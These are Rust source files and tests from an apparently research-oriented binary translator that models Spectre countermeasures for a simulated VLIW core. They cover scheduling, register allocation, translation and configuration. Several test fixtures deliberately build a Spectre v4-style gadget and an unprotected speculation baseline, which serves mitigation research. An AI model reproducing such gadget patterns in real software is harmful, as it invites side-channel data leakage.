        // and produces an identical product.
        let tier = dbt_persist::PersistStore::open(&root).unwrap();
        let registry = MetricsRegistry::new();
        let service = TranslationService::with_metrics_and_persist(&registry, tier.clone());
        let second = service.translate(1, &config, &path, kind).unwrap();
        assert!(!second.cache_hit, "the in-memory memo is cold after a restart");
        assert_eq!(tier.stats().hits, 1, "the verdict came from disk");
        assert_eq!(tier.stats().writes, 0, "a disk hit is not re-published");
        assert_eq!(*first.product.code, *second.product.code);
        let (a, b) = (first.product.analysed.unwrap(), second.product.analysed.unwrap());
        assert_eq!(a.verdict, b.verdict);
        assert_eq!(a.report, b.report);
        // Basic-tier blocks carry no verdict and never touch the disk.
        let writes = tier.stats().writes;
        let _ = service.translate(1, &config, &path, BlockKind::Basic).unwrap();
        assert_eq!(tier.stats().writes, writes);
        std::fs::remove_dir_all(&root).unwrap();
    }

    #[test]
    fn contradicting_persisted_verdicts_are_quarantined_and_recomputed() {
        let (mem, entry) = straightline_memory();
        let root = fresh_root("contradict");
        let path = basic_path(&mem, entry);
        let kind = BlockKind::Superblock { merged_blocks: 1 };
        let config = DbtConfig::selective();
        let tier = dbt_persist::PersistStore::open(&root).unwrap();
        // Plant a well-formed verdict for the wrong block under the key
        // the translation will ask for.
        let options = effective_options(&config, kind);
        let analysis_key = hash64(&(path_fingerprint(&path, kind), options));
        let key = verdict_key_hex(1, analysis_key);
        let wrong = LeakageVerdict {
            entry_pc: 0xbad,
            block_len: 999,
            sources: vec![],
            tainted_values: vec![],
            transmitters: vec![],
            gadgets: vec![],
        };
        assert!(tier.put(VERDICT_KIND, &key, &encode_verdict(&wrong)));
        let registry = MetricsRegistry::new();
        let service = TranslationService::with_metrics_and_persist(&registry, tier.clone());
        let translated = service.translate(1, &config, &path, kind).unwrap();
        let verdict = translated.product.analysed.unwrap().verdict;
        assert_ne!(verdict.entry_pc, 0xbad, "the planted verdict was not believed");
        assert_eq!(tier.stats().corrupt_quarantined, 1);
        // Two publishes: the planted entry and the recomputed verdict.
        assert_eq!(tier.stats().writes, 2, "the recomputed verdict was re-published");
        std::fs::remove_dir_all(&root).unwrap();
    }

    #[test]
    fn stats_export_mirrors_the_snapshot() {
        let (mem, entry) = straightline_memory();
        let registry = MetricsRegistry::new();
        let service = TranslationService::new();
        let path = basic_path(&mem, entry);
        let config = DbtConfig::unprotected();
        let _ = service.translate(1, &config, &path, BlockKind::Basic).unwrap();
        let _ = service.translate(1, &config, &path, BlockKind::Basic).unwrap();
        service.stats().export(&registry);
        let text = registry.render();
        assert!(text.contains("dbt_translate_hits_total 1"), "{text}");
        assert!(text.contains("dbt_translate_misses_total 2"), "{text}");
        assert!(text.contains("dbt_translate_programs 1"), "{text}");
        assert!(text.contains("dbt_translate_evictions_total 0"), "{text}");
    }
}
