//! List scheduler: maps IR instructions to (cycle, slot) positions on the
//! VLIW core, honouring every non-relaxable dependency edge.
//!
//! Relaxable edges are *ignored*: that is where the speculation happens. The
//! code generator later inspects which ignored edges were actually bypassed
//! by the chosen placement and marks the corresponding loads as speculative.

use dbt_ir::{DepGraph, DepKind, InstId, IrBlock, IrOp};
// (IrOp is matched on below for side exits, loads and cycle-counter reads.)
use dbt_riscv::inst::AluOp;
use std::fmt;

/// Scheduling failure (defensive: a well-formed block always schedules).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ScheduleError {
    /// The scheduler could not make progress (dependency cycle).
    NoProgress {
        /// Number of instructions left unscheduled.
        unscheduled: usize,
    },
}

impl fmt::Display for ScheduleError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ScheduleError::NoProgress { unscheduled } => {
                write!(f, "scheduler made no progress with {unscheduled} instructions left")
            }
        }
    }
}

impl std::error::Error for ScheduleError {}

/// Placement of one instruction.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub struct Placement {
    /// Issue cycle (relative to block entry).
    pub cycle: u64,
    /// Slot within the bundle.
    pub slot: usize,
}

/// A complete schedule for one block.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Schedule {
    placements: Vec<Placement>,
    cycles: u64,
}

impl Schedule {
    /// Placement of instruction `id`.
    pub fn placement(&self, id: InstId) -> Placement {
        self.placements[id.index()]
    }

    /// Number of cycles (bundles) the schedule occupies.
    pub fn cycles(&self) -> u64 {
        self.cycles
    }

    /// All placements, indexed by instruction id.
    pub fn placements(&self) -> &[Placement] {
        &self.placements
    }

    /// Returns `true` if `a` is placed strictly before `b`.
    pub fn is_before(&self, a: InstId, b: InstId) -> bool {
        self.placement(a) < self.placement(b)
    }
}

/// Latency estimate used both for priorities and for honouring data edges.
fn latency(op: &IrOp) -> u64 {
    match op {
        IrOp::Load { .. } => 3,
        IrOp::Alu { op, .. } => match op {
            AluOp::Mul | AluOp::Mulh | AluOp::Mulw => 3,
            AluOp::Div | AluOp::Divu | AluOp::Rem | AluOp::Remu => 12,
            _ => 1,
        },
        _ => 1,
    }
}

/// Schedules `block` under the hard edges of `graph`, with at most
/// `issue_width` operations per cycle.
///
/// The scheduler is a classic priority-list scheduler: instruction priority
/// is the critical-path length to the end of the block; ready instructions
/// are placed greedily each cycle.
///
/// # Errors
///
/// Returns [`ScheduleError::NoProgress`] if the hard-edge graph contains a
/// cycle, which cannot happen for graphs built by [`DepGraph::build`].
pub fn schedule(
    block: &IrBlock,
    graph: &DepGraph,
    issue_width: usize,
) -> Result<Schedule, ScheduleError> {
    let n = block.len();
    let hard_edges: Vec<_> = graph.edges().iter().filter(|e| !e.relaxable).collect();

    // Critical-path priorities over hard edges (edges always go from a lower
    // to a higher instruction id).
    let mut priority = vec![0u64; n];
    for index in (0..n).rev() {
        let own = latency(&block.inst(InstId(index)).op);
        let mut best = own;
        for edge in hard_edges.iter().filter(|e| e.from.index() == index) {
            let contribution = match edge.kind {
                DepKind::Data => own + priority[edge.to.index()],
                _ => 1 + priority[edge.to.index()],
            };
            best = best.max(contribution);
        }
        priority[index] = best;
    }

    // Aggressive trace-scheduling policy: a side exit is kept *late* so that
    // the loads the engine wants to hoist above it (those with a remaining
    // relaxable control edge from the exit) can actually be placed first.
    // This is exactly the speculation the paper describes; once GhostBusters
    // hardens an edge, the corresponding load no longer holds the exit back
    // and ends up after it. A fallback disables the rule if it ever blocks
    // progress (it cannot for graphs produced by this crate's passes, but we
    // stay defensive).
    let hoist_before_exit: Vec<Vec<usize>> = (0..n)
        .map(|exit_index| {
            if !block.inst(InstId(exit_index)).op.is_side_exit() {
                return Vec::new();
            }
            graph
                .edges()
                .iter()
                .filter(|e| {
                    e.relaxable
                        && e.kind == DepKind::Control
                        && e.from.index() == exit_index
                        && block.inst(e.to).op.is_load()
                })
                .map(|e| e.to.index())
                .collect()
        })
        .collect();

    let mut placements = vec![None::<Placement>; n];
    let mut scheduled_count = 0usize;
    let mut cycle = 0u64;
    let mut idle_cycles = 0u64;
    let mut hoist_rule_enabled = true;
    let terminator_index = n - 1;

    while scheduled_count < n {
        let mut slot = 0usize;
        let mut placed_this_cycle = true;
        let mut placed_any_this_cycle = false;
        while slot < issue_width && placed_this_cycle {
            placed_this_cycle = false;
            // Collect ready candidates for the current (cycle, slot).
            let mut candidates: Vec<usize> = (0..n)
                .filter(|&i| placements[i].is_none())
                .filter(|&i| {
                    // The unconditional terminator is placed only when
                    // everything else has been scheduled, so no operation can
                    // land after the end of the block.
                    if i == terminator_index && scheduled_count < n - 1 {
                        return false;
                    }
                    if hoist_rule_enabled
                        && hoist_before_exit[i].iter().any(|&load| placements[load].is_none())
                    {
                        return false;
                    }
                    hard_edges.iter().filter(|e| e.to.index() == i).all(|e| {
                        match placements[e.from.index()] {
                            None => false,
                            Some(p) => match e.kind {
                                DepKind::Data => cycle >= p.cycle + latency(&block.inst(e.from).op),
                                _ => {
                                    let from_is_exit = block.inst(e.from).op.is_side_exit();
                                    let involves_rdcycle =
                                        matches!(block.inst(e.from).op, IrOp::RdCycle)
                                            || matches!(block.inst(InstId(i)).op, IrOp::RdCycle);
                                    if from_is_exit || involves_rdcycle {
                                        // Taken exits must not share a cycle
                                        // with later commits, and timed memory
                                        // accesses must not share a cycle with
                                        // the cycle-counter reads around them.
                                        cycle > p.cycle
                                    } else {
                                        // Same-cycle is allowed as long as the
                                        // predecessor sits in an earlier slot,
                                        // which is guaranteed because it was
                                        // placed before this candidate.
                                        cycle > p.cycle || (cycle == p.cycle && p.slot < slot)
                                    }
                                }
                            },
                        }
                    })
                })
                .collect();
            candidates.sort_by_key(|&i| {
                (std::cmp::Reverse(priority[i]), block.inst(InstId(i)).original_seq, i)
            });
            if let Some(&chosen) = candidates.first() {
                placements[chosen] = Some(Placement { cycle, slot });
                scheduled_count += 1;
                slot += 1;
                placed_this_cycle = true;
                placed_any_this_cycle = true;
            }
        }
        cycle += 1;
        if placed_any_this_cycle {
            idle_cycles = 0;
        } else {
            idle_cycles += 1;
            if idle_cycles > 16 && hoist_rule_enabled {
                // Defensive: never let the hoisting preference stall the
                // scheduler (cannot happen for graphs built by this crate).
                hoist_rule_enabled = false;
                idle_cycles = 0;
            }
        }
        if cycle > (n as u64 + 32) * 32 {
            return Err(ScheduleError::NoProgress { unscheduled: n - scheduled_count });
        }
    }

    let placements: Vec<Placement> =
        placements.into_iter().map(|p| p.expect("all scheduled")).collect();
    let cycles = placements.iter().map(|p| p.cycle).max().map_or(0, |c| c + 1);
    Ok(Schedule { placements, cycles })
}

#[cfg(test)]
mod tests {
    use super::*;
    use dbt_ir::{BlockKind, DfgOptions, MemWidth, Operand};
    use dbt_riscv::{BranchCond, Reg};

    /// slow-value store [a0] ; load addrBuf ; load buffer[v] ; halt — the
    /// Spectre v4 shape of the paper's Figure 2 (the stored value requires a
    /// long computation, so aggressive scheduling hoists the later loads
    /// above the store).
    fn spec_block() -> IrBlock {
        let mut b = IrBlock::new(0, BlockKind::Basic);
        let slow = b.push(
            IrOp::Alu { op: AluOp::Div, a: Operand::LiveIn(Reg::A2), b: Operand::LiveIn(Reg::A3) },
            0,
            0,
        );
        b.push(
            IrOp::Store {
                width: MemWidth::DOUBLE,
                value: Operand::Value(slow),
                base: Operand::LiveIn(Reg::A0),
                offset: 0,
            },
            4,
            1,
        );
        let c = b.push(IrOp::Const(0x2000), 8, 2);
        let a = b.push(
            IrOp::Load { width: MemWidth::DOUBLE, base: Operand::Value(c), offset: 0 },
            8,
            2,
        );
        let addr = b.push(
            IrOp::Alu { op: AluOp::Add, a: Operand::Value(a), b: Operand::Imm(0x3000) },
            12,
            3,
        );
        let l = b.push(
            IrOp::Load { width: MemWidth::BYTE_U, base: Operand::Value(addr), offset: 0 },
            12,
            3,
        );
        b.push(IrOp::WriteReg { reg: Reg::A1, value: Operand::Value(l) }, 12, 3);
        b.push(IrOp::Halt, 16, 4);
        b
    }

    #[test]
    fn schedule_respects_hard_edges() {
        let block = spec_block();
        let graph = DepGraph::build(&block, DfgOptions::no_speculation());
        let sched = schedule(&block, &graph, 4).unwrap();
        for edge in graph.edges().iter().filter(|e| !e.relaxable) {
            let from = sched.placement(edge.from);
            let to = sched.placement(edge.to);
            assert!(
                (from.cycle, from.slot) < (to.cycle, to.slot),
                "edge {:?} violated: {from:?} !< {to:?}",
                edge
            );
        }
    }

    #[test]
    fn speculation_shortens_the_schedule() {
        let block = spec_block();
        let unsafe_graph = DepGraph::build(&block, DfgOptions::aggressive());
        let safe_graph = DepGraph::build(&block, DfgOptions::no_speculation());
        let unsafe_sched = schedule(&block, &unsafe_graph, 4).unwrap();
        let safe_sched = schedule(&block, &safe_graph, 4).unwrap();
        assert!(
            unsafe_sched.cycles() < safe_sched.cycles(),
            "speculation must shorten the schedule of the v4 block"
        );
        // With speculation the loads move above the slow store.
        let store = block.stores()[0];
        let first_load = block.loads()[0];
        assert!(unsafe_sched.is_before(first_load, store));
        assert!(!safe_sched.is_before(first_load, store));
    }

    #[test]
    fn terminator_is_scheduled_last() {
        let block = spec_block();
        let graph = DepGraph::build(&block, DfgOptions::aggressive());
        let sched = schedule(&block, &graph, 2).unwrap();
        let last = InstId(block.len() - 1);
        for i in 0..block.len() - 1 {
            assert!(sched.placement(InstId(i)) < sched.placement(last));
        }
    }

    #[test]
    fn issue_width_is_respected() {
        let block = spec_block();
        let graph = DepGraph::build(&block, DfgOptions::aggressive());
        for width in [1usize, 2, 4, 8] {
            let sched = schedule(&block, &graph, width).unwrap();
            let mut per_cycle = std::collections::HashMap::new();
            for p in sched.placements() {
                *per_cycle.entry(p.cycle).or_insert(0usize) += 1;
                assert!(p.slot < width);
            }
            assert!(per_cycle.values().all(|&count| count <= width));
        }
    }

    #[test]
    fn narrow_machine_needs_more_cycles() {
        let block = spec_block();
        let graph = DepGraph::build(&block, DfgOptions::aggressive());
        let wide = schedule(&block, &graph, 8).unwrap();
        let narrow = schedule(&block, &graph, 1).unwrap();
        assert!(narrow.cycles() >= wide.cycles());
    }

    #[test]
    fn side_exit_order_is_strict() {
        let mut b = IrBlock::new(0, BlockKind::Superblock { merged_blocks: 2 });
        b.push(
            IrOp::SideExit {
                cond: BranchCond::Eq,
                a: Operand::LiveIn(Reg::A0),
                b: Operand::Imm(0),
                target: 0x100,
            },
            0,
            0,
        );
        b.push(
            IrOp::Store {
                width: MemWidth::DOUBLE,
                value: Operand::Imm(1),
                base: Operand::LiveIn(Reg::A1),
                offset: 0,
            },
            4,
            1,
        );
        b.push(IrOp::Jump { target: 0x8 }, 8, 2);
        let graph = DepGraph::build(&b, DfgOptions::aggressive());
        let sched = schedule(&b, &graph, 4).unwrap();
        // The store (a committing op) must be in a strictly later cycle than
        // the side exit, so a taken exit can never let it commit.
        assert!(sched.placement(InstId(1)).cycle > sched.placement(InstId(0)).cycle);
    }
}
