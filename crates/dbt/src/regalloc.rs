//! Physical register allocation for block-local IR values.
//!
//! Every value-producing IR instruction receives its own physical register.
//! This matches the paper's description of *hidden registers*: the VLIW
//! register file is larger than the guest's 32 architectural registers, and
//! the extra registers hold speculative or temporary results that are never
//! architecturally visible. Values die at block boundaries, so a dense
//! per-block numbering is sufficient and keeps rollback simple.

use dbt_ir::{InstId, IrBlock};
use dbt_vliw::PhysReg;

/// Result of register allocation for one block.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RegAlloc {
    assignment: Vec<Option<PhysReg>>,
    count: u16,
}

impl RegAlloc {
    /// Allocates one physical register per value-producing instruction.
    pub fn allocate(block: &IrBlock) -> RegAlloc {
        let mut assignment = vec![None; block.len()];
        let mut next = 0u16;
        for inst in block.insts() {
            if inst.op.produces_value() {
                assignment[inst.id.index()] = Some(PhysReg(next));
                next += 1;
            }
        }
        RegAlloc { assignment, count: next }
    }

    /// The physical register holding the value of `id`, if it produces one.
    pub fn reg(&self, id: InstId) -> Option<PhysReg> {
        self.assignment[id.index()]
    }

    /// Number of physical registers used by the block.
    pub fn count(&self) -> u16 {
        self.count
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use dbt_ir::{BlockKind, IrOp, MemWidth, Operand};
    use dbt_riscv::Reg;

    #[test]
    fn values_get_dense_unique_registers() {
        let mut b = IrBlock::new(0, BlockKind::Basic);
        let c = b.push(IrOp::Const(1), 0, 0);
        let l = b.push(
            IrOp::Load { width: MemWidth::DOUBLE, base: Operand::Value(c), offset: 0 },
            4,
            1,
        );
        b.push(IrOp::WriteReg { reg: Reg::A0, value: Operand::Value(l) }, 4, 1);
        b.push(IrOp::Halt, 8, 2);
        let alloc = RegAlloc::allocate(&b);
        assert_eq!(alloc.count(), 2);
        assert_eq!(alloc.reg(c), Some(PhysReg(0)));
        assert_eq!(alloc.reg(l), Some(PhysReg(1)));
        assert_eq!(alloc.reg(InstId(2)), None);
        assert_eq!(alloc.reg(InstId(3)), None);
    }

    #[test]
    fn empty_value_set_uses_no_registers() {
        let mut b = IrBlock::new(0, BlockKind::Basic);
        b.push(IrOp::Halt, 0, 0);
        let alloc = RegAlloc::allocate(&b);
        assert_eq!(alloc.count(), 0);
    }
}
