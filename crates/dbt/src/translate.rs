//! Translation of guest paths into the block-scoped IR.
//!
//! The translator performs a simple local value numbering: each guest
//! register write becomes an IR value plus an explicit architectural commit
//! ([`IrOp::WriteReg`]); later reads of the register inside the same block
//! use the IR value directly, so the data-flow graph reflects true
//! dependencies rather than register names.

use crate::trace_builder::GuestPath;
use dbt_ir::{BlockKind, InstId, IrBlock, IrOp, MemWidth, Operand};
use dbt_riscv::inst::{AluImmOp, AluOp};
use dbt_riscv::{Inst, LoadWidth, Reg, StoreWidth};

fn mem_width_of_load(width: LoadWidth) -> MemWidth {
    MemWidth::new(width.bytes() as u8, width.sign_extends())
}

fn mem_width_of_store(width: StoreWidth) -> MemWidth {
    MemWidth::new(width.bytes() as u8, false)
}

fn alu_of_imm(op: AluImmOp) -> AluOp {
    match op {
        AluImmOp::Addi => AluOp::Add,
        AluImmOp::Slti => AluOp::Slt,
        AluImmOp::Sltiu => AluOp::Sltu,
        AluImmOp::Xori => AluOp::Xor,
        AluImmOp::Ori => AluOp::Or,
        AluImmOp::Andi => AluOp::And,
        AluImmOp::Slli => AluOp::Sll,
        AluImmOp::Srli => AluOp::Srl,
        AluImmOp::Srai => AluOp::Sra,
        AluImmOp::Addiw => AluOp::Addw,
    }
}

/// Register-to-operand map used during translation.
#[derive(Debug, Clone)]
struct RegMap {
    values: [Option<Operand>; Reg::COUNT],
}

impl RegMap {
    fn new() -> RegMap {
        RegMap { values: [None; Reg::COUNT] }
    }

    fn read(&self, reg: Reg) -> Operand {
        if reg.is_zero() {
            Operand::Imm(0)
        } else {
            self.values[reg.index() as usize].unwrap_or(Operand::LiveIn(reg))
        }
    }

    fn write(&mut self, reg: Reg, value: Operand) {
        if !reg.is_zero() {
            self.values[reg.index() as usize] = Some(value);
        }
    }
}

/// Translates a guest path into an IR block.
///
/// Conditional branches the path follows become side exits towards the
/// *other* direction; a path-ending branch becomes a side exit plus a jump
/// to its fall-through. The block always ends with a terminator.
pub fn translate_path(path: &GuestPath, kind: BlockKind) -> IrBlock {
    let mut block = IrBlock::new(path.entry_pc, kind);
    let mut regs = RegMap::new();
    let mut terminated = false;

    for (seq, element) in path.elements.iter().enumerate() {
        let pc = element.pc;
        let define = |block: &mut IrBlock, regs: &mut RegMap, rd: Reg, op: IrOp| {
            let id: InstId = block.push(op, pc, seq);
            if !rd.is_zero() {
                block.push(IrOp::WriteReg { reg: rd, value: Operand::Value(id) }, pc, seq);
                regs.write(rd, Operand::Value(id));
            }
        };
        match element.inst {
            Inst::Nop | Inst::Fence => {
                if matches!(element.inst, Inst::Fence) {
                    block.push(IrOp::Fence, pc, seq);
                }
            }
            Inst::Lui { rd, imm } => define(&mut block, &mut regs, rd, IrOp::Const(imm)),
            Inst::Auipc { rd, imm } => {
                define(&mut block, &mut regs, rd, IrOp::Const(pc.wrapping_add(imm as u64) as i64))
            }
            Inst::Alu { op, rd, rs1, rs2 } => {
                let a = regs.read(rs1);
                let b = regs.read(rs2);
                define(&mut block, &mut regs, rd, IrOp::Alu { op, a, b });
            }
            Inst::AluImm { op, rd, rs1, imm } => {
                let a = regs.read(rs1);
                define(
                    &mut block,
                    &mut regs,
                    rd,
                    IrOp::Alu { op: alu_of_imm(op), a, b: Operand::Imm(imm) },
                );
            }
            Inst::Load { width, rd, rs1, offset } => {
                let base = regs.read(rs1);
                define(
                    &mut block,
                    &mut regs,
                    rd,
                    IrOp::Load { width: mem_width_of_load(width), base, offset },
                );
            }
            Inst::Store { width, rs2, rs1, offset } => {
                let base = regs.read(rs1);
                let value = regs.read(rs2);
                block.push(
                    IrOp::Store { width: mem_width_of_store(width), value, base, offset },
                    pc,
                    seq,
                );
            }
            Inst::Branch { cond, rs1, rs2, offset } => {
                let a = regs.read(rs1);
                let b = regs.read(rs2);
                let taken_target = pc.wrapping_add(offset as u64);
                match element.follow_taken {
                    Some(true) => {
                        // Trace follows the taken direction: exit when the
                        // condition does NOT hold, towards the fall-through.
                        block.push(
                            IrOp::SideExit { cond: cond.negate(), a, b, target: pc + 4 },
                            pc,
                            seq,
                        );
                    }
                    Some(false) | None => {
                        // Exit when the condition holds, towards the taken
                        // target. For a path-ending branch the fall-through
                        // jump is appended after the loop.
                        block.push(IrOp::SideExit { cond, a, b, target: taken_target }, pc, seq);
                    }
                }
            }
            Inst::Jal { rd, offset } => {
                if !rd.is_zero() {
                    let link = block.push(IrOp::Const((pc + 4) as i64), pc, seq);
                    block.push(IrOp::WriteReg { reg: rd, value: Operand::Value(link) }, pc, seq);
                    regs.write(rd, Operand::Value(link));
                }
                // Whether the jump is followed or ends the path is already
                // encoded in `path.fallthrough`.
                let _ = offset;
            }
            Inst::Jalr { rd, rs1, offset } => {
                let base = regs.read(rs1);
                let target = block.push(
                    IrOp::Alu { op: AluOp::Add, a: base, b: Operand::Imm(offset) },
                    pc,
                    seq,
                );
                if !rd.is_zero() {
                    let link = block.push(IrOp::Const((pc + 4) as i64), pc, seq);
                    block.push(IrOp::WriteReg { reg: rd, value: Operand::Value(link) }, pc, seq);
                    regs.write(rd, Operand::Value(link));
                }
                block.push(IrOp::JumpIndirect { target: Operand::Value(target) }, pc, seq);
                terminated = true;
            }
            Inst::Ecall | Inst::Ebreak => {
                block.push(IrOp::Halt, pc, seq);
                terminated = true;
            }
            Inst::RdCycle { rd } => {
                define(&mut block, &mut regs, rd, IrOp::RdCycle);
            }
            Inst::CacheFlush { rs1, offset } => {
                let base = regs.read(rs1);
                block.push(IrOp::CacheFlush { base, offset }, pc, seq);
            }
        }
    }

    if !terminated {
        let seq = path.elements.len();
        let target = path
            .fallthrough
            .expect("path without terminating instruction must provide a fallthrough");
        let pc = path.elements.last().map(|e| e.pc).unwrap_or(path.entry_pc);
        block.push(IrOp::Jump { target }, pc, seq);
    }
    block
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::DbtConfig;
    use crate::profile::Profile;
    use crate::trace_builder::{build_basic_block, build_superblock};
    use dbt_riscv::{Assembler, BranchCond};

    fn block_for(asm: Assembler) -> IrBlock {
        let program = asm.assemble().unwrap();
        let mem = program.build_memory().unwrap();
        let path = build_basic_block(&mem, program.entry(), &DbtConfig::default()).unwrap();
        translate_path(&path, BlockKind::Basic)
    }

    #[test]
    fn straight_line_translation_is_valid() {
        let mut asm = Assembler::new();
        let buf = asm.alloc_data("buf", 64);
        asm.li(Reg::T0, 5);
        asm.la(Reg::A0, buf);
        asm.ld(Reg::A1, Reg::A0, 8);
        asm.add(Reg::A2, Reg::A1, Reg::T0);
        asm.sd(Reg::A2, Reg::A0, 16);
        asm.ecall();
        let block = block_for(asm);
        assert_eq!(block.validate(), Ok(()));
        assert_eq!(block.loads().len(), 1);
        assert_eq!(block.stores().len(), 1);
        // Every register write has a commit.
        let commits =
            block.insts().iter().filter(|i| matches!(i.op, IrOp::WriteReg { .. })).count();
        assert!(commits >= 4);
        assert!(matches!(block.insts().last().unwrap().op, IrOp::Halt));
    }

    #[test]
    fn register_reuse_becomes_data_dependency() {
        let mut asm = Assembler::new();
        asm.li(Reg::T0, 3);
        asm.addi(Reg::T0, Reg::T0, 4);
        asm.ecall();
        let block = block_for(asm);
        // The second addi must read the value of the first as an IR value,
        // not as a live-in.
        let adds: Vec<_> = block
            .insts()
            .iter()
            .filter(|i| matches!(i.op, IrOp::Alu { .. } | IrOp::Const(_)))
            .collect();
        assert!(adds.len() >= 2);
        let last_add = adds.last().unwrap();
        assert!(last_add.op.operands().iter().any(|o| matches!(o, Operand::Value(_))));
    }

    #[test]
    fn path_ending_branch_gets_exit_plus_jump() {
        let mut asm = Assembler::new();
        let out = asm.new_label();
        asm.li(Reg::T0, 1);
        asm.beqz(Reg::T0, out);
        asm.nop();
        asm.bind(out);
        asm.ecall();
        let block = block_for(asm);
        assert_eq!(block.validate(), Ok(()));
        assert_eq!(block.side_exits().len(), 1);
        assert!(matches!(block.insts().last().unwrap().op, IrOp::Jump { .. }));
    }

    #[test]
    fn followed_taken_branch_exits_on_negated_condition() {
        // Build a trace where the branch is biased taken.
        let mut asm = Assembler::new();
        let target = asm.new_label();
        asm.li(Reg::T0, 0);
        asm.beqz(Reg::T0, target); // always taken during warm-up
        asm.li(Reg::A0, 1); // skipped
        asm.bind(target);
        asm.li(Reg::A1, 2);
        asm.ecall();
        let program = asm.assemble().unwrap();
        let mem = program.build_memory().unwrap();
        let config = DbtConfig::default();
        let basic = build_basic_block(&mem, program.entry(), &config).unwrap();
        let branch_pc = basic.elements.last().unwrap().pc;
        let mut profile = Profile::new();
        for _ in 0..32 {
            profile.record_branch(branch_pc, true);
        }
        let trace = build_superblock(&mem, program.entry(), &profile, &config).unwrap();
        let block =
            translate_path(&trace, BlockKind::Superblock { merged_blocks: trace.merged_blocks });
        assert_eq!(block.validate(), Ok(()));
        let exit = block.side_exits()[0];
        match &block.inst(exit).op {
            IrOp::SideExit { cond, target, .. } => {
                // Guest condition is `beq`; the trace follows taken, so the
                // exit fires on `bne` towards the fall-through.
                assert_eq!(*cond, BranchCond::Ne);
                assert_eq!(*target, branch_pc + 4);
            }
            other => panic!("expected side exit, got {other:?}"),
        }
        // The skipped `li a0, 1` must not be part of the trace.
        assert!(block.insts().iter().all(|i| !matches!(i.op, IrOp::WriteReg { reg: Reg::A0, .. })));
        assert!(matches!(block.insts().last().unwrap().op, IrOp::Halt));
    }

    #[test]
    fn jalr_produces_indirect_jump_and_link() {
        let mut asm = Assembler::new();
        asm.li(Reg::T0, 0x1_0040);
        asm.emit(Inst::Jalr { rd: Reg::RA, rs1: Reg::T0, offset: 0 });
        asm.ecall();
        let block = block_for(asm);
        assert_eq!(block.validate(), Ok(()));
        assert!(matches!(block.insts().last().unwrap().op, IrOp::JumpIndirect { .. }));
        assert!(block.insts().iter().any(|i| matches!(i.op, IrOp::WriteReg { reg: Reg::RA, .. })));
    }

    #[test]
    fn rdcycle_and_cflush_are_translated() {
        let mut asm = Assembler::new();
        let buf = asm.alloc_data("buf", 64);
        asm.rdcycle(Reg::A0);
        asm.la(Reg::A1, buf);
        asm.cflush(Reg::A1, 0);
        asm.ecall();
        let block = block_for(asm);
        assert_eq!(block.validate(), Ok(()));
        assert!(block.insts().iter().any(|i| matches!(i.op, IrOp::RdCycle)));
        assert!(block.insts().iter().any(|i| matches!(i.op, IrOp::CacheFlush { .. })));
    }
}
