//! DBT engine configuration.

use dbt_ir::DfgOptions;
use ghostbusters::MitigationPolicy;

/// Configuration of the DBT engine.
///
/// The defaults model a small Hybrid-DBT-like system: 4-wide VLIW, blocks
/// become hot after 16 executions, traces follow branches that are at least
/// 90 % biased and may grow up to 48 guest instructions (allowing a couple
/// of unrolled loop iterations).
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct DbtConfig {
    /// Issue width of the target VLIW core (bundle capacity).
    pub issue_width: usize,
    /// Number of executions after which a block is considered hot and
    /// re-translated as an optimised superblock.
    pub hot_threshold: u64,
    /// Minimum bias (taken-or-not ratio, in `0.5..=1.0`) a conditional
    /// branch needs before the trace builder follows it.
    pub branch_bias_threshold: f64,
    /// Maximum number of guest instructions merged into one superblock.
    pub max_trace_guest_insts: usize,
    /// Which speculation mechanisms the optimiser may use.
    pub speculation: DfgOptions,
    /// Which Spectre countermeasure is applied before scheduling.
    pub policy: MitigationPolicy,
}

impl DbtConfig {
    /// The unsafe baseline: aggressive speculation, no countermeasure.
    pub fn unprotected() -> DbtConfig {
        DbtConfig {
            issue_width: 4,
            hot_threshold: 16,
            branch_bias_threshold: 0.9,
            max_trace_guest_insts: 48,
            speculation: DfgOptions::aggressive(),
            policy: MitigationPolicy::Unprotected,
        }
    }

    /// The paper's countermeasure on top of aggressive speculation.
    pub fn fine_grained() -> DbtConfig {
        DbtConfig { policy: MitigationPolicy::FineGrained, ..DbtConfig::unprotected() }
    }

    /// Verdict-gated hardening on top of aggressive speculation: only
    /// blocks the `spectaint` analysis flags are constrained.
    pub fn selective() -> DbtConfig {
        DbtConfig { policy: MitigationPolicy::Selective, ..DbtConfig::unprotected() }
    }

    /// Fence-on-detection variant.
    pub fn fence() -> DbtConfig {
        DbtConfig { policy: MitigationPolicy::Fence, ..DbtConfig::unprotected() }
    }

    /// The naive countermeasure: both speculation mechanisms disabled.
    pub fn no_speculation() -> DbtConfig {
        DbtConfig {
            speculation: DfgOptions::no_speculation(),
            policy: MitigationPolicy::NoSpeculation,
            ..DbtConfig::unprotected()
        }
    }

    /// Returns the configuration for a given mitigation policy, with every
    /// other parameter at its default.
    pub fn for_policy(policy: MitigationPolicy) -> DbtConfig {
        match policy {
            MitigationPolicy::Unprotected => DbtConfig::unprotected(),
            MitigationPolicy::Selective => DbtConfig::selective(),
            MitigationPolicy::FineGrained => DbtConfig::fine_grained(),
            MitigationPolicy::Fence => DbtConfig::fence(),
            MitigationPolicy::NoSpeculation => DbtConfig::no_speculation(),
        }
    }

    /// Validates parameter ranges.
    pub fn is_valid(&self) -> bool {
        self.issue_width >= 1
            && self.hot_threshold >= 1
            && (0.5..=1.0).contains(&self.branch_bias_threshold)
            && self.max_trace_guest_insts >= 1
    }
}

impl Default for DbtConfig {
    fn default() -> Self {
        DbtConfig::unprotected()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn presets_are_valid_and_distinct() {
        for config in [
            DbtConfig::unprotected(),
            DbtConfig::selective(),
            DbtConfig::fine_grained(),
            DbtConfig::fence(),
            DbtConfig::no_speculation(),
        ] {
            assert!(config.is_valid());
        }
        assert!(DbtConfig::unprotected().speculation.memory_speculation);
        assert!(!DbtConfig::no_speculation().speculation.memory_speculation);
        assert!(!DbtConfig::no_speculation().speculation.branch_speculation);
    }

    #[test]
    fn for_policy_matches_presets() {
        assert_eq!(DbtConfig::for_policy(MitigationPolicy::Fence), DbtConfig::fence());
        assert_eq!(
